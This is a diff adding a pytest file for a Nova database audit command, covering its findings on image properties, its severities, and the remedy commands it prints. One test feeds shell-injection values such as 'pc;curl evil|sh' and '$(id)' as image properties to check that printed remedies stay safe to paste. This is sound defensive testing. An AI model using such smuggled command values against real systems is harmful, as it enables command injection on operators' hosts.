@@ -1,0 +1,233 @@
+"""The checks of what Nova's databases hold: no host is asked."""
+
+import json
+import re
+import shlex
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from tests.audit.auditing import STASHED, audit, checks, healthy
+from tests.cloud import Cloud
+from tests.command import novadev
+
+STORED = (
+    *("not-stashed", "stored-value", "no-effect", "combination", "lun", "request-spec"),
+    *("disk-bus", "machine-type"),
+)
+ONLY = tuple(word for name in STORED for word in ("--check", name))
+
+
+def found(cloud: Cloud, code: int = 0) -> list[dict[str, Any]]:
+    return audit(cloud, "--all", *ONLY, code=code)
+
+
+def test_nothing_is_found_of_a_healthy_guest(any_cloud: Cloud) -> None:
+    healthy(any_cloud)
+    assert found(any_cloud) == []
+
+
+@pytest.mark.parametrize(
+    ("wanted", "check", "severity", "told", "remedy"),
+    [
+        (
+            {"hw_rng_model": "virtio"},
+            "no-effect",
+            "warning",
+            "Nova always makes the random number generator virtio",
+            "novadev image-property unset --property hw_rng_model",
+        ),
+        (
+            {"hw_pointer_model": "usbtablet", "hw_input_bus": "virtio"},
+            "no-effect",
+            "warning",
+            "ignored, as hw_input_bus=virtio is set",
+            "novadev image-property unset --property hw_pointer_model",
+        ),
+        (
+            {"hw_video_model": "gop"},
+            "combination",
+            "failure",
+            "libvirt's QEMU driver has no such video model",
+            "novadev image-property set --property hw_video_model=virtio",
+        ),
+        (
+            {"hw_scsi_model": "buslogic"},
+            "combination",
+            "failure",
+            "QEMU has no such controller",
+            "novadev image-property set --property hw_scsi_model=virtio-scsi",
+        ),
+        (
+            {"hw_disk_bus": "scsi"},
+            "disk-bus",
+            "warning",
+            "hw_disk_bus is scsi, and every disk is on virtio",
+            "novadev image-property set --property hw_disk_bus=virtio",
+        ),
+        (
+            {"hw_machine_type": "q35", "hw_cdrom_bus": "sata"},
+            "machine-type",
+            "warning",
+            "hw_machine_type=q35 stands for the newest of its kind",
+            None,
+        ),
+    ],
+)
+def test_what_a_stored_value_does(
+    sqlite_cloud: Cloud,
+    wanted: dict[str, str],
+    check: str,
+    severity: str,
+    told: str,
+    remedy: str | None,
+) -> None:
+    uuid = healthy(sqlite_cloud, **wanted)
+    (item,) = found(sqlite_cloud, code=3 if severity == "failure" else 0)
+    assert (item["check"], item["severity"], item["instance"]) == (check, severity, uuid)
+    assert told in item["details"]
+    assert item["remedy"] == (remedy and f"{remedy} {uuid}")
+    assert (item["host"], item["name"], item["project"]) == ("cmp1", "web-1", "project-1")
+
+
+def test_properties_that_are_not_stored(sqlite_cloud: Cloud) -> None:
+    """A stored null is a value of Nova's: only what is absent is missing."""
+    uuid = sqlite_cloud.add_instance(**{**STASHED, "hw_disk_bus": None})
+    assert found(sqlite_cloud) == []
+    del_uuid = sqlite_cloud.add_instance(
+        name="web-2", **{name: value for name, value in STASHED.items() if name != "hw_vif_model"}
+    )
+    (item,) = found(sqlite_cloud)
+    assert item["instance"] == del_uuid != uuid
+    assert item["details"] == "hw_vif_model is not stored: a new default would change the guest"
+    assert item["remedy"] == f"novadev stash-defaults {del_uuid}"
+
+
+def test_a_value_that_nova_does_not_have(sqlite_cloud: Cloud) -> None:
+    uuid = healthy(sqlite_cloud, hw_vif_model="e1001")
+    items = found(sqlite_cloud, code=3)
+    assert checks(items) == ["combination", "stored-value"]
+    (item,) = (item for item in items if item["check"] == "stored-value")
+    assert "did you mean e1000" in item["details"]
+    assert item["remedy"] == f"novadev image-property unset --property hw_vif_model {uuid}"
+
+
+def test_a_request_spec_that_says_otherwise(sqlite_cloud: Cloud) -> None:
+    uuid = healthy(sqlite_cloud)
+    (row,) = sqlite_cloud.rows("request_specs", "api", instance_uuid=uuid)
+    text = row["spec"].replace('"hw_vif_model": "virtio"', '"hw_vif_model": "e1000"')
+    assert text != row["spec"]
+    sqlite_cloud.update("request_specs", "api", {"instance_uuid": uuid}, spec=text)
+    (item,) = found(sqlite_cloud)
+    assert item["details"] == "hw_vif_model is virtio, and e1000 in the request spec"
+    assert item["remedy"] == f"novadev image-property set --property hw_vif_model=virtio {uuid}"
+    sqlite_cloud.delete("request_specs", "api", instance_uuid=uuid)
+    (item,) = found(sqlite_cloud)
+    assert (item["check"], item["remedy"]) == ("request-spec", None)
+
+
+def test_luns(sqlite_cloud: Cloud) -> None:
+    uuid = healthy(sqlite_cloud, hw_scsi_model="lsilogic")
+    sqlite_cloud.add_volume(uuid, device_name="/dev/sda", disk_bus="scsi", device_type="lun")
+    (item,) = found(sqlite_cloud)
+    assert (item["check"], item["severity"]) == ("lun", "warning")
+    assert item["remedy"].startswith(
+        "novadev image-property set --property hw_scsi_model=virtio-scsi"
+    )
+
+
+@pytest.mark.parametrize(
+    "value", ["pc;curl evil|sh", "$(id)", "--yes", "pc`id`", "pc\nid", "pc q35", "'", "pc&"]
+)
+def test_a_value_of_an_image_is_never_a_command(sqlite_cloud: Cloud, value: str) -> None:
+    """An operator pastes remedies into a shell, and a tenant chooses the image's properties."""
+    uuid = healthy(sqlite_cloud, hw_machine_type=value, hw_video_model=value)
+    (row,) = sqlite_cloud.rows("request_specs", "api", instance_uuid=uuid)
+    empty = row["spec"].replace('"hw_video_model": ', '"hw_video_model_of_old": ')
+    sqlite_cloud.update("request_specs", "api", {"instance_uuid": uuid}, spec=empty)
+    items = audit(sqlite_cloud, "--all", *ONLY, code=3)
+    assert "request-spec" in checks(items)
+    known = {*("novadev", "image-property", "set", "unset", "--property", uuid, "hw_video_model")}
+    known |= {"hw_video_model=virtio", f"hw_video_model={value}"}
+    for item in items:
+        remedy = item["remedy"] or ""
+        assert set(shlex.split(remedy)) <= known
+        bare = remedy.replace(shlex.quote(f"hw_video_model={value}"), "")
+        assert re.fullmatch(r"[a-z0-9 _=-]*", bare)
+
+
+def test_a_remedy_that_has_to_wait_says_so(sqlite_cloud: Cloud) -> None:
+    healthy(sqlite_cloud, vm_state="active", hw_rng_model="virtio")
+    (item,) = found(sqlite_cloud)
+    assert item["details"].endswith("; the server has to be stopped for the remedy")
+
+
+def test_a_thousand_guests_alike_are_told_apart(sqlite_cloud: Cloud) -> None:
+    """What is remembered of one guest must not be said of another."""
+    good = [healthy(sqlite_cloud, name=f"good-{number}") for number in range(3)]
+    bad = [
+        healthy(sqlite_cloud, name=f"bad-{number}", hw_video_model="gop", vm_state=state)
+        for number, state in enumerate(("stopped", "active", "stopped"))
+    ]
+    items = found(sqlite_cloud, code=3)
+    assert sorted(item["instance"] for item in items) == sorted(bad)
+    assert not set(good) & {item["instance"] for item in items}
+    assert all(item["instance"] in item["remedy"] for item in items)
+
+
+# The command line
+
+
+def test_only_the_checks_that_are_asked_for(sqlite_cloud: Cloud) -> None:
+    healthy(sqlite_cloud, hw_rng_model="virtio", hw_video_model="gop")
+    assert checks(audit(sqlite_cloud, "--all", "--check", "no-effect")) == ["no-effect"]
+    result = novadev(sqlite_cloud, "audit", "--all", "--check", "no-efect")
+    assert result.code == 4
+    assert "there is no check 'no-efect': there are" in result.err
+
+
+def test_what_fails_an_audit(sqlite_cloud: Cloud) -> None:
+    healthy(sqlite_cloud, hw_rng_model="virtio")
+    assert novadev(sqlite_cloud, "audit", "--all", *ONLY).code == 0
+    assert novadev(sqlite_cloud, "audit", "--all", *ONLY, "--fail-on", "warning").code == 3
+    assert novadev(sqlite_cloud, "audit", "--all", *ONLY, "--fail-on", "failure").code == 0
+
+
+def test_a_name_that_is_nobody_s(sqlite_cloud: Cloud) -> None:
+    uuid = healthy(sqlite_cloud, hw_rng_model="virtio")
+    result = novadev(sqlite_cloud, "audit", "-f", "json", *ONLY, uuid, "nobody")
+    assert result.code == 2
+    assert [item["instance"] for item in result.json] == [uuid]
+    assert "instance 'nobody' not found" in result.err
+
+
+def test_a_cell_that_is_down(make_cloud: Callable[[str, str], Cloud]) -> None:
+    """It is a finding of its own; the other cell is looked at."""
+    cloud = make_cloud("sqlite", "34")
+    here = healthy(cloud, hw_rng_model="virtio")
+    healthy(cloud, cell="cell2", name="web-2")
+    (cloud.folder / "cell2.sqlite").unlink()
+    result = novadev(cloud, "audit", "--all", "-f", "json", *ONLY)
+    assert result.code == 8
+    items = result.json
+    assert checks(items) == ["no-effect", "unreachable"]
+    down = next(item for item in items if item["check"] == "unreachable")
+    assert (down["instance"], down["host"], down["severity"]) == (None, None, "failure")
+    assert "cell2" in down["details"]
+    assert here in {item["instance"] for item in items}
+
+
+def test_people_see_the_guest_its_findings_and_their_remedies(sqlite_cloud: Cloud) -> None:
+    uuid = healthy(sqlite_cloud, hw_rng_model="virtio")
+    result = novadev(sqlite_cloud, "audit", "--all", *ONLY)
+    assert f"{uuid} (web-1) on cmp1" in result.out
+    assert f"> novadev image-property unset --property hw_rng_model {uuid}" in result.out
+    assert "1 guests: 0 failures, 1 warnings." in result.err
+
+
+def test_json_has_the_contract_s_keys(sqlite_cloud: Cloud) -> None:
+    healthy(sqlite_cloud, hw_rng_model="virtio")
+    text = novadev(sqlite_cloud, "audit", "--all", *ONLY, "-f", "json").out
+    (item,) = json.loads(text)
+    assert list(item)[:6] == ["check", "severity", "instance", "host", "details", "remedy"]
